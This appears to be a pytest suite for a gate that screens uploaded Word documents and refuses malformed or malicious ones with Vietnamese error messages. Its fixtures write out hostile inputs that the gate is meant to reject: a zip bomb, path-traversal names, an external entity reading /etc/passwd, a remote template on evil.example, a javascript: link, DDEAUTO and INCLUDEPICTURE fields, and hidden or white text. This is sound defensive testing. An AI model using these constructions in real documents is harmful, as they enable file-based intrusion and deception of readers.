"""The gate lets plain papers through and refuses each spoiled one, for its own reason, before anything parses it."""

from __future__ import annotations

import io
import struct
import tracemalloc
import zipfile
from collections.abc import Callable
from functools import partial

import docx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.documents.gate import open_gate
from app.documents.profile import TEMPLATES
from app.documents.word import render_word
from tests.documents.packages import changed, packed, parts_of, with_parts
from tests.documents.sample import SAMPLE
from workflows.refusals import BadInput

GOOD = render_word(SAMPLE)
DOCUMENT, STYLES, TYPES = "word/document.xml", "word/styles.xml", "[Content_Types].xml"
RELS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
Spoil = Callable[[], bytes]


def in_body(xml: str) -> Spoil:
    """Something more in the first paragraph of the body."""
    return partial(changed, GOOD, DOCUMENT, "</w:p>", f"{xml}</w:p>", 1)


def related(kind: str, target: str, mode: str = "") -> Spoil:
    """One more relationship of the main part."""
    mode_text = f' TargetMode="{mode}"' if mode else ""
    xml = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode_text}/></Relationships>'
    return partial(changed, GOOD, RELS, "</Relationships>", xml)


def typed(part: str, content_type: str, body: bytes = b"<x/>", relation: str = "image") -> Spoil:
    """One more part with its content type and a relationship to it."""

    def spoil() -> bytes:
        override = f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
        with_type = changed(GOOD, TYPES, "</Types>", override)
        xml = f'<Relationship Id="rId99" Type="{OFFICE}{relation}" Target="/{part}"/></Relationships>'
        return with_parts(changed(with_type, RELS, "</Relationships>", xml), **{part: body})

    return spoil


def field(*codes: str) -> Spoil:
    """A field whose code is cut into runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{t}"/></w:r>' for t in ("begin", "separate", "end"))
    return in_body(f"{begin}{runs}{separate}<w:r><w:t>x</w:t></w:r>{end}")


def run(properties: str) -> Spoil:
    return in_body(f"<w:r><w:rPr>{properties}</w:rPr><w:t>trừ tỉnh ta</w:t></w:r>")


def replaced(part: str, body: bytes) -> Spoil:
    return lambda: packed(parts_of(GOOD) | {part: body})


def bent(offset_of: bytes, shift: int, value: bytes, nth: int = 0) -> Spoil:
    """The archive with bytes changed at ``shift`` after the nth place where ``offset_of`` stands."""

    def spoil() -> bytes:
        position = -1
        for _ in range(nth + 1):
            position = GOOD.index(offset_of, position + 1)
        start = position + shift
        return GOOD[:start] + value + GOOD[start + len(value) :]

    return spoil


def with_duplicate(name: str) -> bytes:
    """Two parts of one name (or names that differ in case only): Word may show one and a verifier check the other."""
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(name, b"<x/>")
        for part, body in parts_of(GOOD).items():
            if part != name:
                package.writestr(part, body)
    return stored.getvalue()


def twice(name: str) -> bytes:
    first = packed(parts_of(GOOD) | {name.replace("document", "documenu"): b"<x/>"})
    return first.replace(b"documenu", b"document")


def bomb() -> bytes:
    return with_parts(GOOD, **{"word/big.xml": b" " * (60 << 20)})


def ratio() -> bytes:
    return with_parts(GOOD, **{"word/big.xml": b" " * (5 << 20)})


def with_gap() -> bytes:
    """Bytes between two parts that no directory line names; all offsets after it are moved on."""
    at = GOOD.index(b"PK\x03\x04", 4)
    moved = bytearray(GOOD[:at] + b"hidden!!" + GOOD[at:])
    position, first = 0, True
    while (position := moved.find(b"PK\x01\x02", position + 1)) > 0:
        offset = struct.unpack_from("<I", moved, position + 42)[0]
        struct.pack_into("<I", moved, position + 42, offset if first else offset + 8)
        first = False
    end = moved.rindex(b"PK\x05\x06")
    struct.pack_into("<I", moved, end + 16, struct.unpack_from("<I", moved, end + 16)[0] + 8)
    return bytes(moved)


MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
WPS = 'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"'
MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
VML = 'xmlns:v="urn:schemas-microsoft-com:vml"'
W14 = 'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"'

MANY = b"<x>" + b"".join(b"<y a='%x'/>" % (i * 7919) for i in range(600_000)) + b"</x>"

SPOILED: dict[str, tuple[Spoil, str]] = {
    # 1. The archive.
    "not a ZIP": (lambda: b"%PDF-1.7", "không phải văn bản Word"),
    "larger than 10 MB": (lambda: GOOD + bytes(10 << 20), "lớn hơn 10 MB"),
    "more than 500 parts": (
        lambda: with_parts(GOOD, **{f"a{i}.xml": b"<x/>" for i in range(500)}),
        "hơn 500 thành phần",
    ),
    "a bomb of 60 MB": (bomb, "lớn hơn 50 MB"),
    "packed more than 100 times": (ratio, "nén quá 100 lần"),
    "bytes before the archive": (lambda: b"MZ" + GOOD, "không phải văn bản Word"),
    "bytes after the archive": (lambda: GOOD + b"x", "dữ liệu thừa ở cuối"),
    "a comment": (lambda: GOOD[:-2] + b"\x03\x00abc", "dữ liệu thừa ở cuối"),
    "a gap between two parts": (with_gap, "khoảng trống"),
    "two parts of one name": (lambda: twice(DOCUMENT), "trùng tên"),
    "names that differ in case only": (lambda: with_duplicate("word/Document.xml"), "trùng tên"),
    "a name that climbs out": (lambda: with_parts(GOOD, **{"../evil.xml": b"<x/>"}), "tên không hợp lệ"),
    "an absolute name": (lambda: with_parts(GOOD, **{"/word/evil.xml": b"<x/>"}), "tên không hợp lệ"),
    "a backslash in a name": (
        lambda: twice(DOCUMENT).replace(b"word/document.xml", b"word\\document.xml"),
        "tên không",
    ),
    "an escaped name": (lambda: with_parts(GOOD, **{"word/doc%75ment.xml": b"<x/>"}), "tên không hợp lệ"),
    "another name in the local header": (bent(b"word/styles.xml", 5, b"s_yles"), "tên hoặc kích thước không khớp"),
    "another size in the local header": (bent(b"PK\x03\x04", 22, b"\x01\x00\x00\x00", 2), "không khớp danh mục"),
    "another method in the local header": (bent(b"PK\x03\x04", 8, b"\x00\x00", 2), "đầu mục không khớp"),
    "encrypted": (bent(b"PK\x03\x04", 6, b"\x01\x08", 1), "đầu mục không khớp"),
    "one flipped bit": (bent(b"word/document.xml", 60, b"\xff"), "dữ liệu"),
    "a directory that ends early": (bent(b"PK\x05\x06", 10, b"\x03\x00"), "danh mục"),
    # 2. XML.
    "a DOCTYPE": (replaced(STYLES, b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "DOCTYPE"),
    "an external entity": (replaced(STYLES, b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'), "DOCTYPE"),
    "UTF-16 that hides a DOCTYPE": (replaced(STYLES, "<!DOCTYPE x><x/>".encode("utf-16")), "UTF-8"),
    "another encoding declared": (replaced(STYLES, b'<?xml version="1.0" encoding="ISO-8859-1"?><x/>'), "UTF-8"),
    "broken XML": (replaced(STYLES, b"<x>"), "XML đúng khuôn"),
    "XML 101 deep": (replaced(STYLES, b"<x>" * 101 + b"</x>" * 101), "lồng quá 100 lớp"),
    "more than 600,000 elements": (replaced(STYLES, MANY), "quá 600000"),
    # 3. Content types.
    "no list of content types": (
        lambda: packed({n: p for n, p in parts_of(GOOD).items() if n != TYPES}),
        "thiếu danh mục",
    ),
    "macro-enabled": (partial(changed, GOOD, TYPES, MAIN_TYPE, MACRO_TYPE), "không cần"),
    "a template as main part": (partial(changed, GOOD, TYPES, "document.main+xml", "template.main+xml"), "không cần"),
    "a macro project": (typed("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), "không cần"),
    "an embedded workbook": (
        typed("word/embeddings/a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        "không cần",
    ),
    "an ActiveX part": (typed("word/activeX1.xml", "application/vnd.ms-office.activeX+xml"), "không cần"),
    "an embedded font": (
        typed("word/font1.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont"),
        "không cần",
    ),
    "a part with no content type": (lambda: with_parts(GOOD, **{"word/evil.bin": b"x"}), "không khai báo"),
    "a content type declared twice": (
        partial(
            changed,
            GOOD,
            TYPES,
            "</Types>",
            f'<Override PartName="/WORD/document.xml" ContentType="{MAIN_TYPE}"/></Types>',
        ),
        "khai báo hai lần",
    ),
    "a picture that is none": (typed("word/a.png", "image/png", b"MZ program"), "không đúng định dạng"),
    # 4. and 5. Relationships.
    "a remote template": (
        related(f"{OFFICE}attachedTemplate", "http://evil.example/a.dotm", "External"),
        "attachedTemplate",
    ),
    "a linked picture": (related(f"{OFFICE}image", "http://evil.example/a.png", "External"), "từ bên ngoài"),
    "a hyperlink to a file": (related(f"{OFFICE}hyperlink", "file:///c:/a.exe", "External"), "không phải địa chỉ"),
    "a script as hyperlink": (related(f"{OFFICE}hyperlink", "javascript:alert(1)", "External"), "không phải địa chỉ"),
    "an embedded object's relationship": (related(f"{OFFICE}oleObject", "styles.xml"), "oleObject"),
    "an embedded file as text": (related(f"{OFFICE}aFChunk", "styles.xml"), "aFChunk"),
    "a frame": (related(f"{OFFICE}frame", "http://evil.example", "External"), "frame"),
    "a relationship to nowhere": (related(f"{OFFICE}image", "media/none.png"), "không tồn tại"),
    "relationships of a part that is not there": (
        lambda: with_parts(GOOD, **{"word/_rels/none.xml.rels": parts_of(GOOD)[RELS]}),
        "thành phần không tồn tại",
    ),
    "a second main document": (related(f"{OFFICE}officeDocument", "document.xml"), "đúng một nội dung"),
    "a part that nothing leads to": (lambda: with_parts(GOOD, **{"word/evil.xml": b"<x/>"}), "không thuộc văn bản"),
    # 6. Words.
    "hidden text": (run("<w:vanish/>"), "chữ ẩn"),
    "hidden text by a style": (partial(changed, GOOD, STYLES, "<w:rPr><w:b/>", "<w:rPr><w:b/><w:vanish/>"), "chữ ẩn"),
    "text hidden in the web view": (run("<w:webHidden/>"), "chữ ẩn"),
    "white text": (run('<w:color w:val="FFFFFF"/>'), "chữ màu trắng"),
    "nearly white text": (run('<w:color w:val="F5F5F5"/>'), "chữ màu trắng"),
    "white text by the theme": (run('<w:color w:val="000000" w:themeColor="background1"/>'), "chữ màu trắng"),
    "white text by a table style without shading": (
        partial(
            changed,
            GOOD,
            STYLES,
            "</w:styles>",
            '<w:style w:type="table" w:styleId="T"><w:rPr><w:color w:val="FFFFFF"/></w:rPr></w:style></w:styles>',
        ),
        "chữ màu trắng",
    ),
    "text of one point": (run('<w:sz w:val="2"/>'), "chữ nhỏ"),
    "text squeezed to a hair": (run('<w:w w:val="1"/>'), "chữ nhỏ"),
    "letters without filling": (run(f"<w14:textFill {W14}><w14:noFill/></w14:textFill>"), "hiệu ứng chữ"),
    "INCLUDEPICTURE": (field(' INCLUDEPICTURE "http://evil.example/a.png" '), "trường động INCLUDEPICTURE"),
    "INCLUDETEXT cut into runs": (field(" INCL", 'UDETEXT "c:\\\\a.docx"'), "trường động INCLUDETEXT"),
    "DDEAUTO": (field(" DDEAUTO cmd "), "trường động DDEAUTO"),
    "LINK": (field(" LINK Excel.Sheet.8 "), "trường động LINK"),
    "a date that changes": (field(" DATE \\@ dd/MM "), "trường động DATE"),
    "a simple field": (
        in_body('<w:fldSimple w:instr=" DDE cmd "><w:r><w:t>x</w:t></w:r></w:fldSimple>'),
        "trường động DDE",
    ),
    "a field inside a field's code": (
        in_body(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
        "trường động DDE",
    ),
    "a field that never closes": (
        in_body('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'),
        "trường chưa đóng",
    ),
    "an object in the text": (in_body("<w:r><w:object/></w:r>"), "đối tượng nhúng"),
    "a control in the text": (in_body("<w:r><w:control/></w:r>"), "ActiveX"),
    "a file pulled into the text": (in_body("<w:altChunk/>"), "tệp nhúng"),
    "text bound to hidden data": (in_body("<w:sdt><w:sdtPr><w:dataBinding/></w:sdtPr></w:sdt>"), "dữ liệu ẩn"),
    "a text box": (in_body(f"<w:r><wps:txbx {WPS}/></w:r>"), "hộp chữ"),
    "two texts for two programs": (
        in_body(
            f"<mc:AlternateContent {MC}><mc:Fallback><w:r><w:t>khác</w:t></w:r></mc:Fallback></mc:AlternateContent>"
        ),
        "hai phương án",
    ),
    "a picture by address": (
        in_body(f'<w:r><w:pict><v:imagedata {VML} src="http://evil.example/a"/></w:pict></w:r>'),
        "địa chỉ",
    ),
    "mail merge": (partial(changed, GOOD, "word/settings.xml", "<w:compat>", "<w:mailMerge/><w:compat>"), "trộn thư"),
}


@pytest.mark.parametrize("name", SPOILED)
def test_each_spoiled_file_is_refused_for_its_own_reason(name: str) -> None:
    spoil, reason = SPOILED[name]
    with pytest.raises(BadInput) as refusal:
        open_gate(spoil())
    assert reason in str(refusal.value)


def test_our_papers_and_templates_pass() -> None:
    open_gate(GOOD)
    for template in TEMPLATES.glob("*/template.docx"):
        open_gate(template.read_bytes())


def test_a_document_with_a_picture_and_a_link_passes() -> None:
    document = docx.Document(io.BytesIO(GOOD))
    pixel = bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f8cf500f000385"
        "0180d5a4b20a0000000049454e44ae426082"
    )
    document.add_picture(io.BytesIO(pixel))
    document.part.relate_to("https://thanhtra.gov.vn", f"{OFFICE}hyperlink", is_external=True)
    stored = io.BytesIO()
    document.save(stored)
    open_gate(stored.getvalue())


def test_a_blank_document_with_all_of_words_own_styles_passes() -> None:
    document, stored = docx.Document(), io.BytesIO()
    document.add_paragraph("Góp ý của đơn vị.")
    document.save(stored)
    open_gate(stored.getvalue())


def test_an_archive_written_as_a_stream_passes() -> None:
    class Unseekable(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def seek(self, *_: object) -> int:  # type: ignore[override]
            raise io.UnsupportedOperation

        def tell(self) -> int:
            raise io.UnsupportedOperation

    stored = Unseekable()
    with zipfile.ZipFile(stored, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts_of(GOOD).items():
            package.writestr(name, part)
    assert struct.unpack_from("<H", stored.getvalue(), 6)[0] & 8
    open_gate(stored.getvalue())


def test_a_file_of_many_elements_is_refused_in_little_memory() -> None:
    """A few hundred kilobytes of such a file cost python-docx more than a gigabyte."""
    hostile = replaced(STYLES, MANY)()
    tracemalloc.start()
    with pytest.raises(BadInput, match="quá 600000 phần tử"):
        open_gate(hostile)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 60 << 20


@given(st.integers(0, len(GOOD) - 1), st.integers(1, 255))
def test_a_changed_byte_never_breaks_the_gate_itself(position: int, flip: int) -> None:
    content = bytearray(GOOD)
    content[position] ^= flip
    try:
        open_gate(bytes(content))
    except BadInput:
        return


@given(st.binary(max_size=200))
def test_noise_is_refused(noise: bytes) -> None:
    with pytest.raises(BadInput):
        open_gate(noise)
